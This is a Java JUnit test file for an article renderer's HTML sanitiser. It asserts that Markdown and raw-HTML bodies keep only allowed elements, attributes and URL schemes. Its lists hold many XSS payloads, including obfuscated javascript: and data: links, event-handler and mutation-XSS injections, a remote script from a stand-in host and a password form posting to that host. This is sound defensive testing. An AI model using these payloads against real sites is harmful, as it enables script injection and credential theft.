package dev.broadsheet.article;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.broadsheet.config.SiteConfig.RawHtml;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

class HostileBodiesTest {

    private static final Set<String> ELEMENTS =
            Set.of(("p div span br wbr hr h2 h3 h4 h5 h6 ul ol li table caption thead tbody"
                            + " tfoot tr th td figure figcaption img a abbr kbd samp var sub sup small details summary dl dt dd"
                            + " blockquote cite q code pre ins del s u b i em strong mark time dfn bdi bdo ruby rt rp iframe"
                            + " audio video")
                    .split(" ", -1));

    private static final Set<String> ATTRIBUTES =
            Set.of(("id href src alt title rel target class lang dir width height loading"
                            + " decoding referrerpolicy allow allowfullscreen tabindex role aria-label cite start type reversed"
                            + " value colspan rowspan scope datetime controls preload")
                    .split(" ", -1));

    private static final List<String> LINKS = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "java&#9;script:alert(1)",
            "java&Tab;script:alert(1)",
            "java&NewLine;script:alert(1)",
            "javascript&colon;alert(1)",
            "javascript&#58;alert(1)",
            "javascript&#x3A;alert(1)",
            "&#106;avascript:alert(1)",
            "&#x6A;avascript:alert(1)",
            "&#0000106avascript:alert(1)",
            "&#1;javascript:alert(1)",
            "&#x20;javascript:alert(1)",
            "\\javascript:alert(1)",
            "javascript\\:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "DATA:image/svg+xml,<svg onload=alert(1)>",
            "vbscript:msgbox(1)",
            "feed:javascript:alert(1)",
            "blob:https://e.example/1",
            "file:///etc/passwd",
            "view-source:javascript:alert(1)",
            "jar:http://e.example!/",
            "\u0001javascript:alert(1)",
            "\u00a0javascript:alert(1)",
            "\ufeffjavascript:alert(1)",
            "javascript://e.example/%0aalert(1)",
            "//e.example\" onmouseover=\"alert(1)",
            "/\" onmouseover=\"alert(1)",
            "https://e.example/\" onmouseover=\"alert(1)",
            "https://e.example/' onmouseover='alert(1)",
            "https://e.example/`onmouseover=alert(1)",
            "https://e.example/><script>alert(1)</script>");

    private static final List<String> RAW = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//e.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script>alert(1)",
            "x <script>alert(1)</script> y",
            "<img src=x onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\">",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x:x onerror\n=\nalert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<img src=\"known.png\" srcset=\"javascript:alert(1) 2x\">",
            "<img src='known.png' alt='\"><script>alert(1)</script>'>",
            "<img longdesc=\"javascript:alert(1)\" src=known.png>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<style>@import '//e.example/x.css';</style>",
            "<style><style /><img src=x onerror=alert(1)>",
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div style=\"position:fixed;inset:0\">x</div>",
            "<base href=\"//e.example/\">",
            "<meta http-equiv=refresh content=0;url=//e.example>",
            "<link rel=stylesheet href=//e.example/x.css>",
            "<link rel=import href=data:text/html,x>",
            "<form action=//e.example><input name=password><button>Go</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<input autofocus onfocus=alert(1)>",
            "<select autofocus onfocus=alert(1)></select>",
            "<textarea><img src=x onerror=alert(1)>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<keygen autofocus onfocus=alert(1)>",
            "<object data=\"javascript:alert(1)\">x</object>",
            "<object data=data:text/html,x></object>",
            "<embed src=\"javascript:alert(1)\">",
            "<applet code=x></applet>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe src=https://www.youtube.com.e.example/embed/x></iframe>",
            "<iframe src=https://e.example/?youtube.com></iframe>",
            "<iframe src=https://youtube.com@e.example/embed/x></iframe>",
            "<iframe src=\"https://www.youtube.com/embed/x\" onload=alert(1) srcdoc=x>",
            "<iframe src=https://www.youtube.com/embed/x title='\"><script>alert(1)</script>'></iframe>",
            "<frameset onload=alert(1)><frame src=x></frameset>",
            "<body onload=alert(1)>",
            "<html onmouseover=alert(1)>",
            "<video onerror=alert(1)><source onerror=alert(1) src=x></video>",
            "<video poster=javascript:alert(1) src=known.png></video>",
            "<audio src=javascript:alert(1) autoplay onplay=alert(1)></audio>",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=/known/ ping=//e.example onclick=alert(1)>x</a>",
            "<a href=/known/ target=_blank rel=opener>x</a>",
            "<a href='/known/' title='\" onmouseover=\"alert(1)'>x</a>",
            "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
            "<table background=\"javascript:alert(1)\"><tr><td background=x>x</td></tr></table>",
            "<td onclick=alert(1)>x",
            "<map><area href=javascript:alert(1)></map>",
            "<template><script>alert(1)</script></template>",
            "<xmp><script>alert(1)</script>",
            "<plaintext><script>alert(1)</script>",
            "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
            "<noembed><img src=x onerror=alert(1)></noembed>",
            "<title><img src=x onerror=alert(1)></title>",
            "<!-- <img src=x onerror=alert(1)> -->",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!-- unclosed <b>",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?php echo '<script>alert(1)</script>' ?>",
            "<!DOCTYPE html [<!ENTITY x \"<script>\">]>",
            "<div id=main-content class=modal data-x=1 is=x contenteditable>x</div>",
            "<x-widget onclick=alert(1)>x</x-widget>",
            "<b/onclick=alert(1)//>x</b>",
            "<p lang='\"><script>alert(1)</script>'>x</p>",
            "<ol start='1\" onclick=\"x' type=x><li value=x>x</ol>",
            "<time datetime='\"><script>'>x</time>",
            "<pre><code class='language-\"><script>alert(1)</script>'>x</code></pre>",
            "<a name='\"><script>alert(1)</script>'>x</a>",
            "</div></article></main></body></html><script>alert(1)</script>",
            "<p id=__proto__>x</p><img name=body src=known.png>");

    private static final List<String> MARKDOWN = List.of(
            "[x](/known/ \"\\\" onmouseover=\\\"alert(1)\")",
            "![\" onerror=\"alert(1)](known.png)",
            "![x](known.png '\" onerror=\"alert(1)')",
            "```\" onclick=\"alert(1)\nx\n```",
            "```html\n<script>alert(1)</script>\n```",
            "```js\"><script>alert(1)</script>\nx</span><script>\n```",
            "```diff\n+<script>alert(1)</script>\n```",
            "`<script>alert(1)</script>`",
            "[x]: javascript:alert(1)\n\n[x]",
            "[x]: /known/ \"><script>alert(1)</script>\"\n\n[x]",
            "![x][y]\n\n[y]: data:image/svg+xml,x 'z'",
            "<javascript:alert(1)>",
            "<data:text/html,x>",
            "<https://e.example/\"onmouseover=alert(1)>",
            "https://e.example/\"onmouseover=\"alert(1)",
            "www.e.example/'><script>",
            "a@e.example\"onclick=alert(1)",
            "x[^\"><script>]\n\n[^\"><script>]: y",
            "x[^1]\n\n[^1]: <script>alert(1)</script>",
            "# <img src=x onerror=alert(1)>",
            "# x\" onclick=\"alert(1)",
            "# \"><script>alert(1)</script>",
            "| a |\n|---|\n| <script>alert(1)</script> |",
            "| \" onclick=\" |\n|:-:|\n| b |",
            "[<img src=x onerror=alert(1)>](/known/)",
            "[![x](javascript:alert(1))](javascript:alert(1))",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\<script>alert(1)\\</script>",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>");

    @TestFactory
    Stream<DynamicTest> nothingHostileSurvives() {
        Stream<String> links = LINKS.stream()
                .flatMap(link -> Stream.of(
                        "[x](" + link + ")",
                        "[x](<" + link + ">)",
                        "![x](" + link + ")",
                        "<a href=\"" + link + "\">x</a>",
                        "[x]\n\n[x]: " + link));
        return Stream.of(
                        links,
                        RAW.stream(),
                        MARKDOWN.stream(),
                        RAW.stream().map(raw -> "words " + raw + " words"),
                        RAW.stream().map(raw -> "- > " + raw))
                .flatMap(bodies -> bodies)
                .map(body -> DynamicTest.dynamicTest(body, () -> inert(body)));
    }

    private static void inert(String body) {
        assertInert(Bodies.html(body));
        assertInert(Bodies.render(body, RawHtml.ESCAPE).html().markup());
    }

    private static void assertInert(String html) {
        Element parsed = Jsoup.parse("<main id=m>" + html + "</main><footer>end</footer>")
                .body();
        assertEquals(2, parsed.childrenSize(), html);
        for (Element element : parsed.child(0).children().select("*")) {
            assertTrue(ELEMENTS.contains(element.normalName()), () -> element.normalName() + " in " + html);
            for (Attribute attribute : element.attributes()) {
                assertAttribute(element, attribute, html);
            }
        }
    }

    private static void assertAttribute(Element element, Attribute attribute, String html) {
        String name = attribute.getKey();
        String value = attribute.getValue();
        assertTrue(ATTRIBUTES.contains(name), () -> name + " in " + html);
        if (Set.of("href", "src", "cite").contains(name)) {
            String scheme = value.toLowerCase(Locale.ROOT);
            assertTrue(scheme.matches("(https?://|mailto:|/known|#).*"), () -> value + " in " + html);
        }
        if (element.normalName().equals("iframe") && name.equals("src")) {
            assertTrue(value.startsWith("https://www.youtube-nocookie.com/embed/"), html);
        }
        if (name.equals("id")) {
            assertTrue(value.startsWith("h-") && !value.contains("\""), html);
        }
        if (name.equals("class")) {
            assertTrue(value.matches("(tok-|table|embed|footnote|align-)[a-z0-9 -]*"), html);
        }
    }

    @Test
    void whatWasWrittenParsesToItselfAgain() {
        for (String body : RAW) {
            String html = Bodies.html(body);
            var again = Jsoup.parseBodyFragment(html);
            again.outputSettings().prettyPrint(false);

            assertEquals(
                    again.body().text(),
                    Jsoup.parseBodyFragment(again.body().html()).body().text(),
                    body);
        }
    }

    @Test
    void aRefusedLinkLeavesItsTextAndAWarningAtItsPlace() {
        RenderedBody body = Bodies.render("One\n\nTwo [click](javascript:alert(1)) three");

        assertEquals("<p>One</p>\n<p>Two click three</p>", body.html().markup());
        assertEquals("unsafe-link", body.diagnostics().get(0).code());
        assertEquals(12, body.diagnostics().get(0).location().line());
        assertEquals(13, body.diagnostics().get(0).location().column());
    }

    @Test
    void escapedHtmlIsShownAsItWasWritten() {
        String html = Bodies.render("a <b>c</b>\n\n<div>d</div>", RawHtml.ESCAPE)
                .html()
                .markup();

        assertTrue(html.contains("&lt;b&gt;c&lt;/b&gt;") && html.contains("&lt;div&gt;"), html);
    }

    @Test
    void trustedHtmlStaysButCannotSwallowThePage() {
        String html = Bodies.render("<div class=\"x\" data-y=\"1\"><form><input name=\"q\">", RawHtml.TRUST)
                .html()
                .markup();

        assertTrue(html.contains("class=\"x\"") && html.contains("<input") && html.endsWith("</div>"), html);
        assertFalse(Jsoup.parse(html + "<footer>end</footer>")
                .select("body > footer")
                .isEmpty());
    }
}
